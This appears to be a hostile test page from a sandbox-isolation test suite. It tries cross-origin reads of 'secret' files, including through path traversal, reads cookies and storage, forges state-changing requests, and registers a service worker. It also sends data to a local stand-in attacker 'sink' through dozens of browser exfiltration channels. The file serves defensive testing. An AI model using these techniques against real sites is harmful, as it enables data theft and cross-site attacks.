/* Everything a hostile page may try without leaving. What it can see itself goes to `outcomes`,
   "SUCCESS" or "refused"; what reaches the attacker's server is counted there, by name. */
var NAIVE = location.port === "@NAIVE@";
var HOST = /localhost$/.test(location.hostname) ? "localhost" : "127.0.0.1";
var APP = NAIVE ? location.origin : "http://" + HOST + ":@APP@";
var OTHER = NAIVE ? location.origin
  : "http://" + (HOST === "localhost" ? "z-victim.content.localhost" : HOST) + ":@CONTENT@";
var VICTIM = OTHER + "/content/victim/";
var SINK = "http://127.0.0.1:@SINK@/sink/";
var room = document.getElementById("room");
var outcomes = {};
var waiting = [];

function add(tag, values, where) {
  var made = document.createElement(tag);
  Object.keys(values).forEach(function (name) { made.setAttribute(name, values[name]); });
  (where || room).appendChild(made);
  return made;
}
/* An attack returns true, or a promise of true, when it got what it wanted. */
function attack(name, act) {
  outcomes[name] = "refused: no answer";
  var tried;
  try { tried = Promise.resolve(act()); } catch (error) { tried = Promise.reject(error); }
  waiting.push(Promise.race([tried, later(4000)]).then(
    function (got) { outcomes[name] = got ? "SUCCESS" : "refused"; },
    function (error) { outcomes[name] = "refused: " + (error && error.name); }));
}
function later(ms) { return new Promise(function (go) { setTimeout(go, ms); }); }
function has(text) { return /SECRET|theme-(auto|sepia)/.test(text); }
function read(address) {
  return fetch(address, { credentials: "include" }).then(function (r) { return r.text(); }).then(has);
}
function ask(address) {
  return new Promise(function (go) {
    var request = new XMLHttpRequest();
    request.open("GET", address);
    request.withCredentials = true;
    request.onloadend = function () { go(has(request.responseText)); };
    request.send();
  });
}
function look(address) {
  return new Promise(function (go) {
    var frame = add("iframe", { src: address });
    frame.onload = function () {
      try { go(!!frame.contentDocument && frame.contentDocument.body.textContent.trim() !== ""); }
      catch (error) { go(false); }
    };
  });
}
function run(code) { return URL.createObjectURL(new Blob([code], { type: "text/javascript" })); }
function reply(worker) {
  return new Promise(function (go) {
    worker.onmessage = function (event) { go(event.data === "SUCCESS"); };
    worker.onerror = function () { go(false); };
  });
}

/* Of the app. */
["/", "/staff/", "/display"].forEach(function (path) {
  attack("fetch app " + path, function () { return read(APP + path); });
  attack("ask app " + path, function () { return ask(APP + path); });
  attack("frame app " + path, function () { return look(APP + path); });
});
attack("read cookies", function () { return /theme|locale/.test(document.cookie); });
attack("set a cookie", function () {
  document.cookie = "theme=dark;path=/";
  document.cookie = "theme=dark;path=/;domain=" + HOST;
  document.cookie = "theme=dark;path=/;domain=localhost";
  return /theme=dark/.test(document.cookie) && NAIVE;
});
attack("read storage", function () {
  return JSON.stringify(localStorage).indexOf("SECRET") >= 0;
});
attack("read databases", function () {
  return indexedDB.databases().then(function (all) {
    return all.some(function (one) { return one.name === "SECRET"; });
  });
});
attack("read the window above", function () { return parent !== window && !!parent.document.body; });
attack("read storage above", function () { return parent !== window && !!parent.localStorage; });
attack("take the window above", function () { return parent !== window && !!window.frameElement; });
attack("open a window", function () {
  var opened = window.open(SINK + "open");
  if (opened) { setTimeout(function () { opened.close(); }, 1500); }
  return !!opened;
});

/* Of another archive. */
attack("fetch another archive", function () { return read(VICTIM + "secret.json"); });
attack("ask another archive", function () { return ask(VICTIM + "secret.json"); });
attack("frame another archive", function () { return look(VICTIM + "secret.html"); });
attack("run another archive's script", function () {
  return new Promise(function (go) {
    var script = add("script", { src: VICTIM + "secret.js" });
    script.onload = function () { go(window.stolen === "SECRET"); };
    script.onerror = function () { go(false); };
  });
});
attack("go through a redirect", function () { return read("leave"); });
attack("go through a version", function () { return read("/content/hostile@0/..%2Fvictim%2Fsecret.json"); });
attack("go through one's own address", function () { return read("/content/victim/secret.json"); });
attack("go through raw", function () { return read("/raw/victim/content/secret.json"); });
attack("draw another archive's picture", function () {
  return new Promise(function (go) {
    var picture = add("img", { src: VICTIM + "secret.png" });
    picture.onload = function () { go(true); };
    picture.onerror = function () { go(false); };
  });
});

/* Stay for ever. */
attack("register a service worker", function () {
  return navigator.serviceWorker.register("sw.js").then(function () { return true; });
});

/* Change something in the app: the test looks there. */
function change(how) {
  var to = APP + "/display/theme/dark?" + how;
  try {
    if (how === "fetch") { fetch(to, { method: "POST", credentials: "include", mode: "no-cors" }).catch(function () {}); }
    if (how === "beacon") { navigator.sendBeacon(to, "x"); }
    if (how === "form") {
      add("iframe", { name: "hole" });
      add("form", { action: to, method: "post", target: "hole" }).submit();
    }
  } catch (error) { /* so be it */ }
}
["fetch", "beacon", "form"].forEach(change);

/* Tell the attacker: no outcome here, the server counts. */
function tell(name, act) { try { act(SINK + encodeURIComponent(name)); } catch (error) { /* so be it */ } }
tell("image", function (to) { new Image().src = to; });
tell("fetch", function (to) { fetch(to, { mode: "no-cors" }).catch(function () {}); });
tell("request", function (to) { var r = new XMLHttpRequest(); r.open("POST", to); r.send("x"); });
tell("beacon", function (to) { navigator.sendBeacon(to, "x"); });
tell("event source", function (to) { new EventSource(to); });
tell("web socket", function (to) { new WebSocket(to.replace("http:", "ws:")); });
tell("script", function (to) { add("script", { src: to }); });
tell("module", function (to) { import(to).catch(function () {}); });
tell("style", function (to) { add("link", { rel: "stylesheet", href: to }); });
tell("style import", function (to) { add("style", {}).textContent = "@import url('" + to + "');"; });
tell("background", function (to) { add("div", { style: "background:url('" + to + "');height:9px" }); });
tell("font", function (to) { new FontFace("f", "url('" + to + "')").load().catch(function () {}); });
tell("prefetch", function (to) { add("link", { rel: "prefetch", href: to }, document.head); });
tell("preload", function (to) { add("link", { rel: "preload", as: "fetch", href: to }, document.head); });
tell("sound", function (to) { add("audio", { src: to, preload: "auto" }); });
tell("poster", function (to) { add("video", { poster: to }); });
tell("frame", function (to) { add("iframe", { src: to }); });
tell("object", function (to) { add("object", { data: to, type: "text/html" }); });
tell("embed", function (to) { add("embed", { src: to, type: "text/html" }); });
tell("drawing", function (to) {
  room.insertAdjacentHTML("beforeend", "<svg><image href='" + to + "' width='9' height='9'/></svg>");
});
tell("ping", function (to) { add("a", { href: "#x", ping: to }).click(); });
tell("form", function (to) {
  add("iframe", { name: "well" });
  add("form", { action: to, target: "well" }).submit();
});
tell("form by post", function (to) {
  add("iframe", { name: "pit" });
  add("form", { action: to, method: "post", target: "pit" }).submit();
});
tell("page in the page", function (to) {
  add("iframe", { srcdoc: "<img src='" + to + "'>" });
});
tell("page of data", function (to) {
  add("iframe", { src: "data:text/html,<img src='" + to + "'>" });
});
tell("page of a blob", function (to) {
  add("iframe", { src: URL.createObjectURL(new Blob(["<img src='" + to + "'>"], { type: "text/html" })) });
});
tell("blob worker", function (to) { new Worker(run("fetch('" + to + "', {mode: 'no-cors'})")); });
tell("worker", function () { new Worker("worker.js"); });
tell("shared worker", function () { new SharedWorker("shared.js"); });
tell("style sheet of sheets", function () { add("iframe", { src: "sheet.xsl" }); });
tell("drawing with a script", function () { add("iframe", { src: "drawing.svg" }); });
tell("guess", function (to) {
  add("script", { type: "speculationrules" }).textContent =
    JSON.stringify({ prefetch: [{ source: "list", urls: [to] }] });
});
tell("call", function () {
  var call = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:@STUN@" }] });
  call.createDataChannel("x");
  call.createOffer().then(function (offer) { return call.setLocalDescription(offer); });
  window.call = call;
});

Promise.all(waiting).then(function () { return later(1500); }).then(function () {
  /* Last, since it changes every address after it. */
  add("base", { href: SINK }, document.head);
  add("img", { src: "base" });
  return later(700);
}).then(function () { document.title = "done"; });
